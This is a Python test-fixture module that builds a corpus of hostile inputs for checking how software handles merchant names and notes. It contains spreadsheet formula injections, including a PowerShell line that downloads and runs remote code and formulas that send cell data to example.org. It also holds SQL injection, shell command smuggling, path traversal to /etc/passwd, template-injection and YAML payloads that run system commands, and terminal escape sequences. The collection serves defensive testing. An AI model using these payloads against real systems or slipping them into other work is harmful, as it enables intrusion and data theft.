"""Texts of strangers: what people have tried elsewhere to run, steer, break or hide something.

Merchants' names, notes and names of employees reach files, spreadsheets, pages and terminals.
"""

from __future__ import annotations

import itertools

from tests.browser.hostile import HOSTILE as PAGE_TEXTS

#: What an evaluated text would leave behind: products that no other text has.
EVALUATED = ("60481729", "1787569", "root:x:0:0")

_TRIGGERS = "=+-@＝＋－＠\t\r\n"
_FORMULAS = (
    "1+1", "7777*7777", "SUM(1,1)", "cmd|'/C calc'!A0",
    "cmd|' /C powershell IEX(wget example.org/x)'!A0",
    'HYPERLINK("http://example.org?x="&A1,"Error")', 'WEBSERVICE("http://example.org/"&A1)',
    'IMPORTXML("http://example.org","//a")', 'IMAGE("http://example.org/x.png")',
    'DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''", "rundll32|'URL.dll,OpenURL calc.exe'!A",
    'INDIRECT("A1")', 'CALL("kernel32","WinExec","JCC","calc",0)', 'REGISTER.ID("x")',
    "'file:///etc/passwd'#$passwd.A1", "A1", "", "(1)", '"x"',
)  # fmt: skip
FORMULAS = tuple(f"{start}{text}" for start in _TRIGGERS for text in _FORMULAS)
_HIDDEN_STARTS = tuple(
    f"{before}{text}"
    for before in (
        " ", "  ", "\xa0", "\u3000", "\u200b", "\ufeff", "\u2060", "\0", "\x1f", "'", '"', '""',
        ";", '";', ',"', '"\t', "\t", "|", "\v", "\x85", "\u2028", "\u180e", "\xad",
    )
    for text in ("=7777*7777", "@SUM(1)")
)  # fmt: skip
_ALIKE = tuple(
    f"{sign}7777*7777"
    for sign in "\ufe66\ufe62\ufe63\ufe6b\u207a\u207c\u208a\u208c\u2212\u02d7\ua78a"
)
_SEPARATORS = (
    ";;;;", ",,,,", "\t\t\t", "||||", '"', '""', '"""', "'", "''", '";"', '","', '"\r\n"',
    "a\r\nb", "a\rb", "a\nb", "a\n\nb", 'x";=1+1;"', 'x",=1+1,"', "x\t=1+1", "x\n=1+1",
    "x\r\n@SUM(1)", '"=1+1', "'=1+1", "x;\"", "{x}", "}", "{", "#", "##", "\\", "\\\\", "\\n",
    "\\0", "x\\", "x\"", "^", "~", "`", "%", "!TRNS\tx", "!ENDTRNS", "ENDTRNS", "#VER A 1",
    "#TRANS 1910 {} 1.00", "}\n#VER", "2026-01-01 * x\n  a  1", "; comment", "  assets:x  5 EUR",
    "include /etc/passwd", "account x", "(code) x", "* x", "! x", "x  ; date:2020-01-01", "a:b",
    "a: b", "x\n---\ny", "EXTF;700", "\x1a", "\x1a\x1a",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE items; --", "1 OR 1=1", "' OR ''='", "\" OR \"\"=\"", "1; SELECT 1",
    "x' UNION SELECT 1 --", "Robert'); DROP TABLE Students;--", "%' OR '1'='1", "NULL", "null",
    "nil", "None", "undefined", "NaN", "Infinity", "-Infinity", "true", "false", "TRUE", "0",
)  # fmt: skip
_SHELL = (
    "$(touch ran)", "`touch ran`", "; touch ran", "| touch ran", "& touch ran", "&& touch ran",
    "$HOME", "${HOME}", "%PATH%", "!PATH!", "~root", "*", "?", "$((7777*7777))", "> ran",
    "< /etc/passwd", "-rf", "--help", "-", "--", "\\$(touch ran)", "$'\\x41'", "\n touch ran",
)  # fmt: skip
_FORMATS = (
    "%s", "%d", "%n", "%x%x%x", "%s%s%s%s%n", "%(name)s", "%%", "{}", "{0}", "{0.__class__}",
    "{item}", "{item.__class__.__init__.__globals__}", "{:>9999999}", "{0!r}", "%1$s",
    "%9999999d", "$1", "\\1", "${1}", "\\g<0>", "$$", "${name}", "#{name}", "%-", "strftime %Y",
)  # fmt: skip
_JINJA = (
    "{{ 7777*7777 }}", "{{7777*7777}}", "{%print(7777*7777)%}", "{{ config }}", "{{ self }}",
    "{% include '/etc/passwd' %}", "{% import 'os' as os %}", "{# x #}", "{{", "}}", "{%", "%}",
    "{#", "{% raw %}", "{% endraw %}", "{{ ''.__class__.__mro__ }}", "{{ item.note }}",
    "{{ posting.amount }}", "{{ company.name }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}", "{{ cycler.__init__.__globals__ }}",
    "{{ request['__class__'] }}", "# for x in y", "${7777*7777}", "<%= 7777*7777 %>",
    "#{7777*7777}", "*{7777*7777}", "${{1337*1337}}", "@(1337*1337)", "[[${7777*7777}]]",
    "{{=7777*7777}}", "{7777*7777}", "{{ line.tags['x'] }}", "{% endfor %}",
)  # fmt: skip
_YAML = (
    "&a [*a]", "*a", "<<: *a", "!!python/object/apply:os.system [touch ran]",
    "!!python/name:os.system", "!ruby/object:Gem::Installer", "- x", "? x", "x: y", "---", "...",
    "%YAML 1.1", "|", ">", "NO", "no", "yes", "on", "off", "0123", "0o17", "0x1f", "1_000",
    "12:30:45", "1e3", ".inf", ".nan", "~", "2026-01-01", "@x", "`x",
)  # fmt: skip
_PATHS = (
    "../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\Windows", "C:x",
    "\\\\host\\share", "//host/share", "file:///etc/passwd", "CON", "NUL", "con.txt", "COM1",
    "LPT1.csv", "aux", ".", "..", ".htaccess", "x.", "x ", "a/b", "a\\b", "a:b", "a*b",
    "x" * 300, "\0/etc", "%2e%2e%2f", "..%c0%af", "....//", "~/x", "$HOME/x", "x.csv:ads",
    "\u2024\u2024/x", "．．／x", "manifest.json", "review.html",
)  # fmt: skip
_TERMINAL = (
    "\x1b[31mred\x1b[0m", "\x1b[2J\x1b[H", "\x1b]0;title\x07",
    "\x1b]8;;http://example.org\x07x\x1b]8;;\x07", "\x1b[6n", "\x1bP+q544e\x1b\\",
    "\x1b]52;c;cm0gLXJm\x07", "\x1bc", "\x9b31m", "\x9d0;t\x9c", "\x90x\x9c", "\b\b\b\b",
    "\x7f\x7f", "\a\a", "\x0e\x0f", "\rerror[X-1]: x", "x\rrewritten", "\x1b[1A\x1b[2K",
    "\x1b[?1049h", "\x1b]1337;File=:x\x07", "\x1b[8m hidden", "\x85next", "\x84", "\x8d",
    "\u009b2J", "[red]rich[/red]", "[link=http://example.org]x[/link]", "[/]", "[bold", "\\[x]",
)  # fmt: skip
_LETTERS = (
    "Ma\u0308rz", "e\u0301", "\u212b", "\ufb01n", "ﬀ", "ß", "ẞ", "İ", "ı", "ſ", "ǅ", "Ω", "Å",
    "\u1e9b\u0323", "a" + "\u0300" * 200, "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A", "\u0300x", "\u20dd", "\u0e33",
    "\u1100\u1161\u11a8", "각", "か\u3099", "が", "👩‍👩‍👧‍👦", "🏴‍☠️", "🇩🇪", "👍🏽", "#️⃣",
    "\U0001f4a9", "\U000e0041", "\U0010ffff", "\ufffd", "\ufffe", "\ufdd0", "\ue000",
    "\U000f0000", "\ud800", "\udfff", "x\ud83d", "\udca9x", "\ud83d\ud83d", "€", "‚„", "…", "–",
    "—", "→", "≤", "ﷺ", "﷽", "\u3164", "\u115f", "\u00ad", "\u034f", "\u2800", "٣٤", "１２３",
    "²", "½", "Ⅷ", "①", "\u1d7d9", "𝟙", "𝕏", "ⓧ", "русский", "ελληνικά", "עברית", "العربية",
    "हिन्दी", "ไทย", "日本語", "한국어", "ÅÄÖåäö", "éèêë", "ŁŚŹ", "Œœ", "Ÿ", "Žž", "ŐŰ", "ĲĳŊ",
    "\x80\x81\x8d\x8f\x90\x9d",
)  # fmt: skip
_DIRECTION = tuple(
    f"a{mark}b.00"
    for mark in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069"
)
_CONTROLS = tuple(f"a{chr(code)}b" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0)))
_ENDS = tuple(
    f"a{mark}b"
    for mark in (
        *"\u2028\u2029\u200b\u200c\u200d\u2060\ufeff\u180e\u00a0",
        *"\u2007\u202f\u3000\ufff9\ufffb",
    )
)
_LONG = (
    "x" * 10_000, "ä" * 5_000, "💩" * 2_500, "x " * 5_000, "=" * 10_000, "\u0308" * 3_000,
    "{{" * 5_000,
)  # fmt: skip
_BLANK = ("", " ", "   ", "\xa0", "\u3000", "\t", "\n", "\0", "\ufeff", "\u200b")


def _unique(*groups: tuple[str, ...]) -> tuple[str, ...]:
    return tuple(dict.fromkeys(itertools.chain.from_iterable(groups)))


HOSTILE = _unique(
    FORMULAS, _HIDDEN_STARTS, _ALIKE, _SEPARATORS, _SQL, _SHELL, _FORMATS, _JINJA, _YAML, _PATHS,
    _TERMINAL, _LETTERS, _DIRECTION, _CONTROLS, _ENDS, _LONG, _BLANK, PAGE_TEXTS,
)  # fmt: skip
